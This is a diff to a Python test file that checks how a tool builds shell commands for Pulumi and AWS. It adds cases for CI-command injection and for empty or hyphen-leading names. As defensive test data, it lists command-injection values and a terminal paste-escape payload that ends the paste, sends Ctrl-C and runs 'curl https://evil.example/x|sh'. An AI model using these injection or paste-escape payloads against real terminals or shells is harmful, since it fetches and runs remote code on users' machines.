@@ -15,7 +15,7 @@ HOSTILE = (
     *("a b", "a;touch made", "$(touch made)", "`touch made`", "it's", 'say "x"', "a & b", "*", "# none", "{stack}"),
     *("~", "!!", "日本"),
 )
-UNPASTABLE = ("a\nb", "a\x1b[201~\x03\ncurl https://evil.example/x|sh\n", "a\u202eb", "a\ud800", "a\r")
+UNPASTABLE = ("a\nb", "a\x1b[201~\x03\ncurl https://evil.example/x|sh\n", "a\u202eb", "a\ud800", "a\r", "##[error]a")
 
 # One call per command, and the words that a shell must hand over; {} stands for the value.
 CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
@@ -201,7 +201,8 @@ def test_the_aws_cli_sends_a_value_as_it_is(name: str, value: str) -> None:
 def test_no_command_for_what_cannot_be_pasted(name: str, value: str) -> None:
     """Protects a terminal: quotes do not hold what ends a paste, the input line, or the line on the screen.
 
-    The attack: a policy whose name ends the paste (ESC [201~), kills the line (Ctrl-C) and types a command.
+    The attack: a policy whose name ends the paste (ESC [201~), kills the line (Ctrl-C) and types a command. An audience
+    with `##[`, which commands CI, would be another one where it is printed.
     """
     assert CALLS[name][0](value) == ""
 
@@ -212,6 +213,24 @@ def test_no_half_of_two_commands() -> None:
     assert commands.up_with_service_account("a\n", "team-a", "app", False) == ""
     assert commands.up_with_annotations("dev", "team-a", "app", ["a\n"]) == ""
     assert commands.up_with_annotations("a\n", "team-a", "app", ["a"]) == ""
+
+
+# An annotation may be empty, a stack of `irsa explain` left out; an audience of nothing is no client ID.
+MAY_BE_EMPTY = ("annotate", "explain", "restart")
+
+
+@pytest.mark.parametrize("name", [name for name, (_, words) in CALLS.items() if "{}" in " ".join(words)])
+def test_no_half_of_a_command(name: str) -> None:
+    """Protects who pastes a command: `pulumi up --stack ''` would be of whatever stack is selected."""
+    assert name in MAY_BE_EMPTY or CALLS[name][0]("") == ""
+    assert commands.create_provider(ISSUER, []) == commands.remove_annotations("team-a", "app") == ""
+
+
+def test_a_stack_whose_name_begins_with_a_hyphen() -> None:
+    """Protects who has such a stack, which Pulumi allows: an option takes it after `=`; `--overwrite` takes none."""
+    assert commands.up("-dev") == "pulumi up --refresh --stack=-dev"
+    assert commands.up("-a b") == "pulumi up --refresh '--stack=-a b'"
+    assert commands.annotate("team-a", "app", "-a/b", "c") == ""
 
 
 def test_no_shell_finds_a_comment() -> None:
